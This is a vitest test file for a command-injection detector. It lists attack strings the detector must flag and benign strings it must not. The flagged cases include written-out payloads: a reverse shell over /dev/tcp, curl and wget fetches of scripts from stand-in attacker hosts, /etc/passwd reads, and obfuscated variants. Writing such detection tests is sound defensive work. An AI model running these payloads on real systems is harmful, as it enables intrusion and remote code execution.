import { describe, expect, it } from 'vitest';
import { createInjectionInspector } from '../create-injection-inspector.js';

const inspector = createInjectionInspector();
const fires = (value: string) => inspector.inspectValue(value, 'query.q').some((h) => h.class === 'command');

describe('command detector', () => {
  it.each([
    '; cat /etc/passwd',
    '| id',
    '&& whoami',
    'x || uname -a',
    '`whoami`',
    '$(curl http://evil.example/x.sh)',
    "a;c'a't${IFS}/etc/passwd",
    ';{cat,/etc/passwd}',
    '127.0.0.1%0Aid',
    '%3B%20ls%20-la',
    'foo; /bin/sh -i',
    'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
    '/???/c?t /e??/p?sswd',
    'wget http://203.0.113.5/x.sh -O /tmp/x',
    "require('child_process').exec('id')",
    'FOR /F "tokens=*" %G IN (\'dir\') DO echo %G',
    '& ping -n 5 127.0.0.1',
  ])('fires on %j', (value) => {
    expect(fires(value)).toBe(true);
  });

  it.each([
    'Tom & Jerry; more to come',
    'salt & pepper',
    'black & white; cat lovers welcome',
    'I love my dog & cat',
    'red|green|blue',
    'Use the | character to separate values',
    'Step 1; step 2; done',
    'data:image/png;base64,iVBORw0KGgo=',
    'Returns `null` when empty',
    '```bash\nnpm install\n```',
    'find the best deal',
    'curl -X POST https://api.example.com/v1/items',
  ])('does not fire on %j', (value) => {
    expect(fires(value)).toBe(false);
  });
});
